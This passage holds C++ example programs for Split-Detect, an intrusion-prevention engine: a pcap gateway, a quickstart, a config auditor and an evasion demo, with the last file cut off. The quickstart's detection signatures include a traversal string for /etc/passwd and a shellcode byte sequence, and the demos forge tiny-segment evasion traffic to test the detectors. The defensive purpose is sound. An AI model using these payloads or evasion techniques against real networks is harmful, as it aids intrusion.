              "publish(es), %llu rejected, %llu adoption(s))\n",
              registry.current_version(),
              static_cast<unsigned long long>(registry.publishes()),
              static_cast<unsigned long long>(registry.rejected()),
              static_cast<unsigned long long>(st.adoptions));
  std::printf("flows seen               %zu (diverted %zu)\n", flows_seen,
              diverted);
  std::printf("fast-path bytes scanned  %s\n",
              human_bytes(static_cast<double>(fast_scanned)).c_str());
  std::printf("slow-path bytes scanned  %s\n",
              human_bytes(static_cast<double>(slow_scanned)).c_str());
  std::printf("fast-path state          %s\n",
              human_bytes(static_cast<double>(fast_state)).c_str());
  std::printf("slow-path state          %s\n",
              human_bytes(static_cast<double>(slow_state)).c_str());
  std::printf("packet arena             %llu borrow(s), %llu heap "
              "fallback(s), %llu still outstanding\n",
              static_cast<unsigned long long>(st.arena_borrows()),
              static_cast<unsigned long long>(st.arena_heap_fallbacks()),
              static_cast<unsigned long long>(st.arena_outstanding()));
  for (std::size_t i = 0; i < st.dispatchers.size(); ++i) {
    const auto& d = st.dispatchers[i];
    std::printf("dispatcher %zu: ingested %llu, consumed %llu, rejected "
                "%llu, %llu flush(es) (%llu on timeout), busy %.2f ms, "
                "ingest ring high-water %zu/%zu\n",
                i, static_cast<unsigned long long>(d.ingested),
                static_cast<unsigned long long>(d.consumed),
                static_cast<unsigned long long>(d.rejected),
                static_cast<unsigned long long>(d.flushes),
                static_cast<unsigned long long>(d.flush_timeouts),
                static_cast<double>(d.busy_ns) / 1e6, d.ring_high_water,
                d.ring_capacity);
  }
  for (std::size_t i = 0; i < st.lanes.size(); ++i) {
    const auto& l = st.lanes[i];
    std::printf("lane %zu: processed %llu (non-IP %llu), busy %.2f ms, ring "
                "high-water %zu/%zu, arena high-water %llu/%zu, flow budget "
                "%zu, alerts %llu, ruleset v%" PRIu64 "\n",
                i, static_cast<unsigned long long>(l.processed),
                static_cast<unsigned long long>(l.non_ip),
                static_cast<double>(l.busy_ns) / 1e6, l.ring_high_water,
                l.ring_capacity,
                static_cast<unsigned long long>(l.arena.high_water),
                l.arena.slots, l.fast_max_flows,
                static_cast<unsigned long long>(l.alerts), l.adopted_version);
  }
  if (wire_rc != 0) return wire_rc;
  return alerts.empty() ? 0 : 1;
}
