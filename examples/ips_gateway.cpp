// Offline IPS gateway: run any pcap capture through the multi-threaded
// Split-Detect runtime (flow-hash dispatcher → SPSC rings → one engine per
// lane thread) and print verdicts plus live runtime statistics.
//
//   $ ./ips_gateway capture.pcap                  # default corpus, p = 8
//   $ ./ips_gateway capture.pcap 12               # piece length 12
//   $ ./ips_gateway capture.pcap 8 my.rules       # Snort-style rule file
//   $ ./ips_gateway capture.pcap 8 my.rules --json  # machine-readable output
//   $ ./ips_gateway capture.pcap --lanes 8        # more detector lanes
//   $ ./ips_gateway capture.pcap --lanes 16 --dispatchers 2  # sharded ingest
//   $ ./ips_gateway capture.pcap --stats-interval 1   # live metrics dump
//   $ ./ips_gateway capture.pcap --repeat 50      # sustain load (demo/soak)
//   $ ./ips_gateway capture.pcap 8 my.rules --control-socket /tmp/sdt.sock
//
// Rule lifecycle: signatures are compiled once, off the packet path, into a
// versioned immutable artifact published through a RuleSetRegistry; every
// lane adopts new versions at packet boundaries (RCU-style, one atomic
// load per loop iteration). Two reload triggers while traffic flows:
//
//   * --control-socket PATH — admin endpoint (`reload <file>`,
//     `ruleset-status`, `stats`, `ping`); try `nc -U /tmp/sdt.sock`.
//   * SIGHUP — re-compiles and republishes the rule file given on the
//     command line (classic daemon convention). A bad file rejects the
//     reload and the previously active version keeps running.
//
// Works on Ethernet and raw-IPv4 captures. If no path is given, forges a
// small mixed trace to a temp file first so the example is self-contained.
#include <algorithm>
#include <atomic>
#include <chrono>
#include <cinttypes>
#include <csignal>
#include <cstdio>
#include <cstdlib>
#include <filesystem>
#include <span>
#include <string>
#include <vector>

#include "control/compiler.hpp"
#include "control/control_plane.hpp"
#include "control/registry.hpp"
#include "core/report.hpp"
#include "core/rules.hpp"
#include "evasion/corpus.hpp"
#include "evasion/trace_io.hpp"
#include "evasion/traffic_gen.hpp"
#include "pcap/pcapng.hpp"
#include "runtime/runtime.hpp"
#include "telemetry/registry.hpp"
#include "telemetry/sink.hpp"
#include "util/json.hpp"
#include "util/stats.hpp"

namespace {

// SIGHUP just raises a flag; the real reload (compile + publish) runs on
// the main thread between feed batches — the handler itself stays
// async-signal-safe by doing nothing interesting.
std::atomic<bool> g_sighup{false};

std::string make_demo_capture() {
  using namespace sdt;
  const std::string path =
      (std::filesystem::temp_directory_path() / "sdt_gateway_demo.pcap")
          .string();
  evasion::TrafficConfig tc;
  tc.flows = 300;
  tc.seed = 42;
  evasion::AttackMix mix;
  mix.attack_fraction = 0.03;
  mix.kind = evasion::EvasionKind::combo_tiny_ooo;
  const auto trace =
      evasion::generate_mixed(tc, evasion::default_corpus(32), mix);
  evasion::write_trace(path, trace.packets);
  std::printf("no capture given; forged %zu-packet demo trace at %s\n",
              trace.packets.size(), path.c_str());
  return path;
}

void print_diagnostics(const std::vector<sdt::core::RuleDiagnostic>& diags) {
  for (const auto& d : diags) {
    if (d.line != 0) {
      std::fprintf(stderr, "rules [%s] line %zu: %s\n",
                   sdt::core::to_string(d.severity), d.line, d.reason.c_str());
    } else {
      std::fprintf(stderr, "rules [%s]: %s\n",
                   sdt::core::to_string(d.severity), d.reason.c_str());
    }
  }
}

std::string runtime_stats_json(const sdt::runtime::StatsSnapshot& st) {
  sdt::JsonWriter j;
  j.begin_object();
  j.field("fed", st.fed);
  j.field("processed", st.processed);
  j.field("dropped", st.dropped);
  j.field("rejected_malformed", st.rejected);
  j.field("non_ip", st.non_ip);
  j.field("alerts", st.alerts);
  j.field("diverted_packets", st.diverted);
  j.field("diverted_fraction", st.diverted_fraction());
  j.field("ruleset_adoptions", st.adoptions);
  j.field("min_adopted_version", st.min_adopted_version());
  j.field("arena_heap_fallbacks", st.arena_heap_fallbacks());
  j.field("arena_outstanding", st.arena_outstanding());
  {
    const sdt::telemetry::HistogramSnapshot lat = st.latency_ns();
    j.key("latency_ns").begin_object();
    j.field("count", lat.count);
    j.field("p50", lat.p50());
    j.field("p90", lat.p90());
    j.field("p99", lat.p99());
    j.field("max", lat.max);
    j.end_object();
  }
  j.key("lanes").begin_array();
  for (const auto& l : st.lanes) {
    j.begin_object();
    j.field("fed", l.fed);
    j.field("processed", l.processed);
    j.field("dropped", l.dropped);
    j.field("non_ip", l.non_ip);
    j.field("bytes", l.bytes);
    j.field("alerts", l.alerts);
    j.field("diverted", l.diverted);
    j.field("busy_ns", l.busy_ns);
    j.field("adoptions", l.adoptions);
    j.field("adopted_version", l.adopted_version);
    j.field("ring_high_water", static_cast<std::uint64_t>(l.ring_high_water));
    {
      j.key("arena").begin_object();
      j.field("borrows", l.arena.borrows);
      j.field("recycles", l.arena.recycles);
      j.field("exhausted", l.arena.exhausted);
      j.field("heap_fallbacks", l.arena.heap_fallbacks);
      j.field("outstanding", l.arena.outstanding());
      j.field("high_water", l.arena.high_water);
      j.field("slots", static_cast<std::uint64_t>(l.arena.slots));
      j.end_object();
    }
    j.end_object();
  }
  j.end_array();
  j.key("dispatchers").begin_array();
  for (const auto& d : st.dispatchers) {
    j.begin_object();
    j.field("ingested", d.ingested);
    j.field("consumed", d.consumed);
    j.field("rejected", d.rejected);
    j.field("flushes", d.flushes);
    j.field("flush_timeouts", d.flush_timeouts);
    j.field("busy_ns", d.busy_ns);
    j.field("ring_high_water", static_cast<std::uint64_t>(d.ring_high_water));
    j.field("ring_capacity", static_cast<std::uint64_t>(d.ring_capacity));
    j.end_object();
  }
  j.end_array();
  j.end_object();
  return j.str();
}

}  // namespace

int main(int argc, char** argv) {
  using namespace sdt;

  // Flags anywhere on the command line; the rest are positional.
  bool json = false;
  std::size_t lanes = 4;
  std::size_t dispatchers = 0;  // 0 = inline dispatch on the feeder thread
  double stats_interval_s = 0.0;  // 0 = no live dumps
  std::size_t repeat = 1;
  std::string control_socket;
  std::vector<std::string> pos;
  for (int i = 1; i < argc; ++i) {
    const std::string a = argv[i];
    if (a == "--json") {
      json = true;
    } else if (a == "--stats-interval" && i + 1 < argc) {
      stats_interval_s = std::atof(argv[++i]);
      if (stats_interval_s <= 0.0) {
        std::fprintf(stderr, "error: --stats-interval must be > 0 seconds\n");
        return 2;
      }
    } else if (a == "--repeat" && i + 1 < argc) {
      const long n = std::strtol(argv[++i], nullptr, 10);
      if (n < 1) {
        std::fprintf(stderr, "error: --repeat must be >= 1\n");
        return 2;
      }
      repeat = static_cast<std::size_t>(n);
    } else if (a == "--lanes" && i + 1 < argc) {
      const long n = std::strtol(argv[++i], nullptr, 10);
      if (n < 1 || n > 1024) {
        std::fprintf(stderr, "error: --lanes must be in [1, 1024], got %s\n",
                     argv[i]);
        return 2;
      }
      lanes = static_cast<std::size_t>(n);
    } else if (a == "--dispatchers" && i + 1 < argc) {
      // 0 is a legal value (inline dispatch), so a plain range check would
      // let strtol's garbage-input 0 through silently — require digits.
      char* end = nullptr;
      const long n = std::strtol(argv[++i], &end, 10);
      if (end == argv[i] || *end != '\0' || n < 0 || n > 64) {
        std::fprintf(stderr, "error: --dispatchers must be in [0, 64], got %s\n",
                     argv[i]);
        return 2;
      }
      dispatchers = static_cast<std::size_t>(n);
    } else if (a == "--control-socket" && i + 1 < argc) {
      control_socket = argv[++i];
    } else {
      pos.push_back(a);
    }
  }

  const std::string path = !pos.empty() ? pos[0] : make_demo_capture();
  const std::size_t piece_len =
      pos.size() > 1 ? static_cast<std::size_t>(std::atoi(pos[1].c_str())) : 8;
  const std::string rules_path = pos.size() > 2 ? pos[2] : "";

  runtime::RuntimeConfig rc;
  rc.lanes = lanes;
  rc.dispatchers = dispatchers;
  rc.engine.fast.piece_len = piece_len;

  // Rule lifecycle plumbing. The compiler's options mirror the lane engine
  // configuration so a published artifact is always adoptable (same piece
  // length and automaton layout); a rule too short to split is dropped
  // with a diagnostic instead of failing the load — the reload semantics.
  core::CompileOptions copts;
  copts.piece_len = rc.engine.fast.piece_len;
  copts.layout = rc.engine.fast.layout;
  copts.piece_phase_sample = rc.engine.fast.piece_phase_sample;
  control::RuleSetRegistry registry;
  control::RuleCompiler compiler(copts);

  // Version 1: the rule file if given, else the built-in demo corpus.
  control::CompileResult v1 =
      !rules_path.empty()
          ? compiler.compile_file(rules_path, registry.allocate_version())
          : compiler.compile_signatures(evasion::default_corpus(2 * piece_len),
                                        "default-corpus",
                                        registry.allocate_version());
  print_diagnostics(v1.report.diagnostics);
  if (!v1.ok()) {
    std::fprintf(stderr, "error: rule compile failed; nothing to run\n");
    return 2;
  }
  registry.publish(v1.ruleset);
  std::printf("loaded %zu signatures as ruleset v%" PRIu64
              " (piece length %zu, min usable %zu, %zu dropped short)\n",
              v1.ruleset->signatures().size(), v1.ruleset->version(),
              piece_len, 2 * piece_len, v1.report.dropped_short);

  // Read the capture up front (the dispatcher is the bottleneck-free part;
  // this example is offline so file I/O need not interleave with feeding).
  std::vector<net::Packet> packets;
  try {
    const auto reader = pcap::open_capture(path);
    rc.link = reader->link_type();
    while (auto pkt = reader->next()) packets.push_back(std::move(*pkt));
  } catch (const Error& e) {
    std::fprintf(stderr, "error: %s\n", e.what());
    return 2;
  }

  const std::size_t capture_packets = packets.size() * repeat;
  runtime::Runtime rt(registry.current(), rc);
  rt.attach_registry(registry);

  // Every runtime counter, histogram and gauge, addressable by name — the
  // contract lives in docs/OBSERVABILITY.md. The dumper thread polls the
  // live scope (engine-internal gauges are quiescent-only) while the
  // dispatcher and lanes run.
  telemetry::MetricsRegistry metrics;
  rt.register_metrics(metrics, "runtime");
  registry.register_metrics(metrics, "control");
  compiler.register_metrics(metrics, "control");
  telemetry::HumanSink live_sink(stderr, /*skip_zero=*/true);
  telemetry::PeriodicDumper dumper(
      metrics, live_sink,
      std::chrono::milliseconds(
          static_cast<long>(stats_interval_s * 1000.0)));
  if (stats_interval_s > 0.0) dumper.start();

  // The admin surface: a `reload` arriving over the socket publishes
  // through the same registry the lanes watch, so it takes effect while
  // packets flow. SIGHUP funnels into the same execute() path.
  control::ControlPlane cp(compiler, registry);
  cp.set_stats_provider([&metrics] {
    return metrics.snapshot(telemetry::SampleScope::live).to_json();
  });
  if (!control_socket.empty()) {
    try {
      cp.start(control_socket);
      std::printf("control plane listening on %s\n", control_socket.c_str());
    } catch (const Error& e) {
      std::fprintf(stderr, "error: control socket: %s\n", e.what());
      return 2;
    }
  }
  std::signal(SIGHUP, [](int) { g_sighup.store(true); });
  const auto service_sighup = [&] {
    if (!g_sighup.exchange(false)) return;
    if (rules_path.empty()) {
      std::fprintf(stderr,
                   "SIGHUP: no rule file on the command line to reload\n");
      return;
    }
    const std::string resp = cp.execute("reload " + rules_path);
    std::fprintf(stderr, "SIGHUP reload: %s\n", resp.c_str());
  };

  rt.start();
  // Move the capture into the pipeline: frames are parsed once at the
  // dispatcher and handed to the rings without a deep copy. With --repeat
  // the capture is replayed N times to sustain load (flow state carries
  // across repeats; verdicts of the first pass are the ones that matter).
  // A pending SIGHUP reload is serviced between batches.
  for (std::size_t r = 1; r < repeat; ++r) {
    service_sighup();
    rt.feed(std::span<const net::Packet>(packets));
  }
  service_sighup();
  rt.feed(std::move(packets));
  rt.stop();
  cp.stop();
  if (stats_interval_s > 0.0) {
    dumper.stop();
    std::fprintf(stderr, "(live stats: %" PRIu64 " dump(s) at %.1fs)\n",
                 dumper.ticks(), stats_interval_s);
  }

  // Names resolve against the newest artifact: in this offline example a
  // reload recompiles the same file, so ids line up across versions.
  const core::RuleSetHandle active = registry.current();
  const core::SignatureSet& sigs = active->signatures();

  std::vector<core::Alert> alerts = rt.alerts();
  // Lanes finish in their own order; present alerts in capture-time order.
  std::stable_sort(alerts.begin(), alerts.end(),
                   [](const core::Alert& a, const core::Alert& b) {
                     return a.ts_usec < b.ts_usec;
                   });

  const runtime::StatsSnapshot st = rt.stats();

  if (json) {
    std::printf("{\"alerts\":%s,\"runtime\":%s,\"ruleset\":%s}\n",
                core::alerts_json(alerts, sigs).c_str(),
                runtime_stats_json(st).c_str(),
                registry.status_json().c_str());
    return alerts.empty() ? 0 : 1;
  }

  for (const core::Alert& a : alerts) {
    const char* name = a.signature_id == core::kConflictAlertId
                           ? "(conflicting retransmission)"
                       : a.signature_id == core::kUrgentAlertId
                           ? "(urgent-mode ambiguity)"
                       : a.signature_id < sigs.size()
                           ? sigs[a.signature_id].name.c_str()
                           : "(signature from retired version)";
    std::printf("ALERT %-28s flow %s  source=%s\n", name,
                a.flow.str().c_str(), a.source);
  }

  // Deep per-path stats live in each lane's private engine; sum them.
  std::uint64_t fast_scanned = 0, slow_scanned = 0;
  std::size_t fast_state = 0, slow_state = 0, flows_seen = 0, diverted = 0;
  for (std::size_t i = 0; i < rt.lanes(); ++i) {
    const core::SplitDetectStats es = rt.lane_engine(i).stats_snapshot();
    fast_scanned += es.fast.bytes_scanned;
    slow_scanned += es.slow.bytes_scanned;
    fast_state += rt.lane_engine(i).fast_path().flow_state_bytes();
    slow_state += rt.lane_engine(i).slow_path().flow_state_bytes();
    flows_seen += es.fast.flows_seen;
    diverted += es.fast.flows_diverted;
  }

  if (rt.dispatchers() > 0) {
    std::printf("\n=== runtime statistics (%zu lanes, %zu dispatchers) ===\n",
                rt.lanes(), rt.dispatchers());
  } else {
    std::printf("\n=== runtime statistics (%zu lanes, inline dispatch) ===\n",
                rt.lanes());
  }
  std::printf("packets processed        %llu of %zu captured (fed %llu, "
              "dropped %llu, rejected %llu malformed, non-IP %llu)\n",
              static_cast<unsigned long long>(st.processed), capture_packets,
              static_cast<unsigned long long>(st.fed),
              static_cast<unsigned long long>(st.dropped),
              static_cast<unsigned long long>(st.rejected),
              static_cast<unsigned long long>(st.non_ip));
  std::printf("alerts                   %llu\n",
              static_cast<unsigned long long>(st.alerts));
  std::printf("slow-path packet share   %.2f%%\n",
              100.0 * st.diverted_fraction());
  const telemetry::HistogramSnapshot lat = st.latency_ns();
  if (!lat.empty()) {
    std::printf("per-packet latency       p50=%" PRIu64 " ns  p90=%" PRIu64
                "  p99=%" PRIu64 "  max=%" PRIu64 "\n",
                lat.p50(), lat.p90(), lat.p99(), lat.max);
  }
  std::printf("ruleset                  v%" PRIu64 " active (%llu "
              "publish(es), %llu rejected, %llu adoption(s))\n",
              registry.current_version(),
              static_cast<unsigned long long>(registry.publishes()),
              static_cast<unsigned long long>(registry.rejected()),
              static_cast<unsigned long long>(st.adoptions));
  std::printf("flows seen               %zu (diverted %zu)\n", flows_seen,
              diverted);
  std::printf("fast-path bytes scanned  %s\n",
              human_bytes(static_cast<double>(fast_scanned)).c_str());
  std::printf("slow-path bytes scanned  %s\n",
              human_bytes(static_cast<double>(slow_scanned)).c_str());
  std::printf("fast-path state          %s\n",
              human_bytes(static_cast<double>(fast_state)).c_str());
  std::printf("slow-path state          %s\n",
              human_bytes(static_cast<double>(slow_state)).c_str());
  std::printf("packet arena             %llu borrow(s), %llu heap "
              "fallback(s), %llu still outstanding\n",
              static_cast<unsigned long long>(st.arena_borrows()),
              static_cast<unsigned long long>(st.arena_heap_fallbacks()),
              static_cast<unsigned long long>(st.arena_outstanding()));
  for (std::size_t i = 0; i < st.dispatchers.size(); ++i) {
    const auto& d = st.dispatchers[i];
    std::printf("dispatcher %zu: ingested %llu, consumed %llu, rejected "
                "%llu, %llu flush(es) (%llu on timeout), busy %.2f ms, "
                "ingest ring high-water %zu/%zu\n",
                i, static_cast<unsigned long long>(d.ingested),
                static_cast<unsigned long long>(d.consumed),
                static_cast<unsigned long long>(d.rejected),
                static_cast<unsigned long long>(d.flushes),
                static_cast<unsigned long long>(d.flush_timeouts),
                static_cast<double>(d.busy_ns) / 1e6, d.ring_high_water,
                d.ring_capacity);
  }
  for (std::size_t i = 0; i < st.lanes.size(); ++i) {
    const auto& l = st.lanes[i];
    std::printf("lane %zu: processed %llu (non-IP %llu), busy %.2f ms, ring "
                "high-water %zu/%zu, arena high-water %llu/%zu, flow budget "
                "%zu, alerts %llu, ruleset v%" PRIu64 "\n",
                i, static_cast<unsigned long long>(l.processed),
                static_cast<unsigned long long>(l.non_ip),
                static_cast<double>(l.busy_ns) / 1e6, l.ring_high_water,
                l.ring_capacity,
                static_cast<unsigned long long>(l.arena.high_water),
                l.arena.slots, l.fast_max_flows,
                static_cast<unsigned long long>(l.alerts), l.adopted_version);
  }
  return alerts.empty() ? 0 : 1;
}
