// Offline IPS gateway: run any pcap capture through the Split-Detect
// two-path pipeline and print verdicts plus engine statistics.
//
//   $ ./ips_gateway capture.pcap                  # default corpus, p = 8
//   $ ./ips_gateway capture.pcap 12               # piece length 12
//   $ ./ips_gateway capture.pcap 8 my.rules       # Snort-style rule file
//   $ ./ips_gateway capture.pcap 8 my.rules --json  # machine-readable output
//
// Works on Ethernet and raw-IPv4 captures. If no path is given, forges a
// small mixed trace to a temp file first so the example is self-contained.
#include <cstdio>
#include <cstdlib>
#include <filesystem>
#include <string>

#include "core/engine.hpp"
#include "core/report.hpp"
#include "core/rules.hpp"
#include "evasion/corpus.hpp"
#include "evasion/trace_io.hpp"
#include "evasion/traffic_gen.hpp"
#include "util/stats.hpp"

namespace {

std::string make_demo_capture() {
  using namespace sdt;
  const std::string path =
      (std::filesystem::temp_directory_path() / "sdt_gateway_demo.pcap")
          .string();
  evasion::TrafficConfig tc;
  tc.flows = 300;
  tc.seed = 42;
  evasion::AttackMix mix;
  mix.attack_fraction = 0.03;
  mix.kind = evasion::EvasionKind::combo_tiny_ooo;
  const auto trace =
      evasion::generate_mixed(tc, evasion::default_corpus(32), mix);
  evasion::write_trace(path, trace.packets);
  std::printf("no capture given; forged %zu-packet demo trace at %s\n",
              trace.packets.size(), path.c_str());
  return path;
}

}  // namespace

int main(int argc, char** argv) {
  using namespace sdt;

  const bool json = argc > 1 && std::string(argv[argc - 1]) == "--json";
  if (json) --argc;

  const std::string path = argc > 1 ? argv[1] : make_demo_capture();
  const std::size_t piece_len =
      argc > 2 ? static_cast<std::size_t>(std::atoi(argv[2])) : 8;

  core::SignatureSet sigs;
  if (argc > 3) {
    core::RuleParseResult rules;
    try {
      rules = core::load_rules_file(argv[3]);
    } catch (const Error& e) {
      std::fprintf(stderr, "error: %s\n", e.what());
      return 2;
    }
    for (const auto& skip : rules.skipped) {
      std::fprintf(stderr, "rules: skipped line %zu: %s\n", skip.line,
                   skip.reason.c_str());
    }
    // Rules too short to split at this piece length stay unusable here;
    // report rather than silently weaken the split guarantee.
    core::SignatureSet usable;
    for (const auto& s : rules.signatures) {
      if (s.bytes.size() >= 2 * piece_len) {
        usable.add(s.name, ByteView(s.bytes));
      } else {
        std::fprintf(stderr, "rules: '%s' shorter than 2p=%zu, dropped\n",
                     s.name.c_str(), 2 * piece_len);
      }
    }
    sigs = std::move(usable);
  } else {
    sigs = evasion::default_corpus(2 * piece_len);
  }
  if (sigs.empty()) {
    std::fprintf(stderr, "no usable signatures\n");
    return 2;
  }
  std::printf("loaded %zu signatures (piece length %zu, min usable %zu)\n",
              sigs.size(), piece_len, 2 * piece_len);

  core::SplitDetectConfig cfg;
  cfg.fast.piece_len = piece_len;
  core::SplitDetectEngine engine(sigs, cfg);

  core::PcapRunResult result;
  try {
    result = core::run_pcap(engine, path);
  } catch (const Error& e) {
    std::fprintf(stderr, "error: %s\n", e.what());
    return 2;
  }

  if (json) {
    std::printf("{\"alerts\":%s,\"stats\":%s}\n",
                core::alerts_json(result.alerts, sigs).c_str(),
                core::stats_json(engine).c_str());
    return result.alerts.empty() ? 0 : 1;
  }

  for (const core::Alert& a : result.alerts) {
    const char* name = a.signature_id == core::kConflictAlertId
                           ? "(conflicting retransmission)"
                       : a.signature_id == core::kUrgentAlertId
                           ? "(urgent-mode ambiguity)"
                           : sigs[a.signature_id].name.c_str();
    std::printf("ALERT %-28s flow %s  source=%s\n", name,
                a.flow.str().c_str(), a.source);
  }

  const core::SplitDetectStats& st = engine.stats();
  std::printf("\n=== engine statistics ===\n");
  std::printf("packets processed        %llu\n",
              static_cast<unsigned long long>(st.packets));
  std::printf("alerts                   %llu\n",
              static_cast<unsigned long long>(st.alerts));
  std::printf("slow-path packet share   %.2f%%\n",
              100.0 * st.slow_packet_fraction());
  std::printf("fast-path flows seen     %llu (diverted %llu)\n",
              static_cast<unsigned long long>(st.fast.flows_seen),
              static_cast<unsigned long long>(st.fast.flows_diverted));
  std::printf("fast-path bytes scanned  %s\n",
              human_bytes(static_cast<double>(st.fast.bytes_scanned)).c_str());
  std::printf("slow-path bytes scanned  %s\n",
              human_bytes(static_cast<double>(st.slow.bytes_scanned)).c_str());
  std::printf("fast-path state          %s\n",
              human_bytes(static_cast<double>(engine.fast_path().flow_state_bytes())).c_str());
  std::printf("slow-path state          %s\n",
              human_bytes(static_cast<double>(engine.slow_path().flow_state_bytes())).c_str());
  return result.alerts.empty() ? 0 : 1;
}
