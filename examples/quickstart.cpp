// Quickstart: the smallest useful Split-Detect program.
//
// Builds an engine from three signatures, forges a few packets (one benign
// flow, one tiny-segment evasion attack), and prints the verdicts.
//
//   $ ./quickstart
#include <cstdio>

#include "core/engine.hpp"
#include "evasion/transforms.hpp"
#include "util/rng.hpp"

int main() {
  using namespace sdt;

  // 1. A signature set (exact byte strings, >= 2 * piece_len each).
  core::SignatureSet sigs;
  sigs.add("demo-backdoor", std::string_view("CONNECT_BACKDOOR_4711"));
  sigs.add("demo-traversal", std::string_view("/../../../../etc/passwd"));
  sigs.add("demo-shellcode", std::string_view("\x90\x90\x90\x90\x31\xc0\x50\x68\x2f\x2f\x73\x68"));

  // 2. The engine: piece length p = 6, everything else default.
  core::SplitDetectConfig cfg;
  cfg.fast.piece_len = 6;
  core::SplitDetectEngine engine(sigs, cfg);

  // 3. Traffic: a benign flow and a FragRoute-style tiny-segment attack
  //    carrying signature 0.
  Rng rng(1);
  evasion::Endpoints benign_ep;
  benign_ep.client_port = 40001;
  const Bytes benign_stream = to_bytes("GET /index.html HTTP/1.1\r\nHost: example\r\n\r\n");
  auto benign = evasion::forge_evasion(evasion::EvasionKind::none, benign_ep,
                                       benign_stream, {}, rng, 1000);

  evasion::Endpoints attack_ep;
  attack_ep.client_port = 40002;
  Bytes attack_stream = to_bytes("prefix padding CONNECT_BACKDOOR_4711 suffix padding");
  evasion::EvasionParams params;
  params.sig_lo = 15;
  params.sig_hi = 15 + 21;
  params.tiny_seg_size = 4;  // 4-byte TCP segments, classic evasion
  auto attack = evasion::forge_evasion(evasion::EvasionKind::tiny_segments,
                                       attack_ep, attack_stream, params, rng,
                                       2000);

  // 4. Run both flows through the engine.
  std::vector<core::Alert> alerts;
  auto run = [&](const std::vector<net::Packet>& pkts, const char* label) {
    std::size_t diverted = 0;
    for (const net::Packet& p : pkts) {
      const core::Action a = engine.process(p, net::LinkType::raw_ipv4, alerts);
      if (a != core::Action::forward) ++diverted;
    }
    std::printf("%-8s %3zu packets, %zu sent to the slow path\n", label,
                pkts.size(), diverted);
  };
  run(benign, "benign:");
  run(attack, "attack:");

  // 5. Verdicts.
  for (const core::Alert& a : alerts) {
    std::printf("ALERT: signature '%s' on flow %s (source: %s)\n",
                sigs[a.signature_id].name.c_str(), a.flow.str().c_str(),
                a.source);
  }
  std::printf("fast path scanned %llu bytes; slow path reassembled %llu\n",
              static_cast<unsigned long long>(engine.stats_snapshot().fast.bytes_scanned),
              static_cast<unsigned long long>(engine.stats_snapshot().slow.reassembled_bytes));
  return alerts.empty() ? 1 : 0;
}
