// Config doctor: audit a rule base + engine configuration against the
// paper's assumptions before deploying (the conditions behind "we prove
// that under certain assumptions this scheme detects all byte-string
// evasions").
//
//   $ ./config_doctor                        # default corpus, p = 8
//   $ ./config_doctor 12                     # piece length 12
//   $ ./config_doctor 8 my.rules             # audit a Snort-style rule file
//
// Exit code: 0 clean, 1 warnings, 2 errors.
#include <cstdio>
#include <cstdlib>

#include "core/rules.hpp"
#include "core/validate.hpp"
#include "evasion/corpus.hpp"
#include "evasion/traffic_gen.hpp"
#include "util/rng.hpp"

int main(int argc, char** argv) {
  using namespace sdt;

  const std::size_t piece_len =
      argc > 1 ? static_cast<std::size_t>(std::atoi(argv[1])) : 8;

  core::SignatureSet sigs;
  if (argc > 2) {
    try {
      core::RuleParseResult rules = core::load_rules_file(argv[2]);
      // Print every per-line finding the parser collected — a doctor that
      // hides symptoms is no doctor. Severity tags match the engine's
      // vocabulary (note / skipped / fatal).
      for (const auto& d : rules.diagnostics) {
        if (d.line != 0) {
          std::printf("%-8s rules line %zu: %s\n", core::to_string(d.severity),
                      d.line, d.reason.c_str());
        } else {
          std::printf("%-8s rules: %s\n", core::to_string(d.severity),
                      d.reason.c_str());
        }
      }
      if (rules.count(core::RuleSeverity::fatal) > 0) {
        std::fprintf(stderr, "error: rule file has fatal problems\n");
        return 2;
      }
      sigs = std::move(rules.signatures);
    } catch (const Error& e) {
      std::fprintf(stderr, "error: %s\n", e.what());
      return 2;
    }
  } else {
    sigs = evasion::default_corpus();
  }

  core::SplitDetectConfig cfg;
  cfg.fast.piece_len = piece_len;

  // A synthetic HTTP-like benign sample drives the chance-hit estimate;
  // replace with bytes from your own traffic for deployment-grade numbers.
  Rng rng(2006);
  const Bytes sample = evasion::generate_payload(rng, 1 << 19, 1.0);

  const core::ConfigReport report =
      core::validate_config(sigs, cfg, sample);

  std::printf("auditing %zu signatures at piece length %zu "
              "(small-segment threshold %zu)\n\n",
              sigs.size(), report.piece_len, report.small_segment_threshold);
  for (const auto& issue : report.issues) {
    std::printf("%-8s %s\n", to_string(issue.severity), issue.message.c_str());
  }
  if (report.piece_hits_per_mb >= 0) {
    std::printf("\npiece hits on benign sample: %.1f /MB\n",
                report.piece_hits_per_mb);
  }

  if (!report.ok()) return 2;
  return report.count(core::Severity::warning) > 0 ? 1 : 0;
}
