// Evasion demo: runs every FragRoute-class transform against three
// detectors and prints who caught what — the Ptacek-Newsham story in one
// table.
//
//   $ ./evasion_demo
//
// Expected shape: the naive per-packet matcher catches only the undisguised
// control ('none'); the conventional IPS and Split-Detect catch everything
// (the conflicting-content attacks surface as normalizer conflicts).
#include <cstdio>

#include "evasion/corpus.hpp"
#include "evasion/traffic_gen.hpp"
#include "evasion/transforms.hpp"
#include "sim/replay.hpp"
#include "util/rng.hpp"

int main() {
  using namespace sdt;

  core::SignatureSet sigs;
  sigs.add("demo-signature", std::string_view("EVASION_DEMO_SIGNATURE_BYTES_01"));

  std::printf("%-22s | %-18s | %-18s | %-18s\n", "evasion", "naive per-packet",
              "conventional IPS", "split-detect");
  std::printf("%.22s-+-%.18s-+-%.18s-+-%.18s\n",
              "----------------------", "------------------",
              "------------------", "------------------");

  for (evasion::EvasionKind kind : evasion::kAllEvasions) {
    Rng rng(2024);
    Bytes stream = evasion::generate_payload(rng, 2500, 0.5);
    const std::size_t at = 900;
    std::copy(sigs[0].bytes.begin(), sigs[0].bytes.end(),
              stream.begin() + static_cast<std::ptrdiff_t>(at));
    evasion::EvasionParams params;
    params.sig_lo = at;
    params.sig_hi = at + sigs[0].bytes.size();
    params.tiny_seg_size = 4;
    const auto pkts = evasion::forge_evasion(kind, evasion::Endpoints{},
                                             stream, params, rng, 0);

    auto verdict = [&](sim::Detector& det) -> const char* {
      sim::replay(det, pkts);
      for (std::uint32_t id : det.alerted_signatures()) {
        if (id != core::kConflictAlertId) return "DETECTED";
      }
      return det.total_alerts() > 0 ? "conflict alert" : "evaded";
    };

    sim::NaivePerPacketDetector naive(sigs);
    sim::ConventionalDetector conv(sigs);
    core::SplitDetectConfig sd_cfg;
    sd_cfg.fast.piece_len = 8;
    sd_cfg.min_ttl = 2;  // protected hosts sit >= 2 hops behind the IPS
    sim::SplitDetectDetector sd(sigs, sd_cfg);

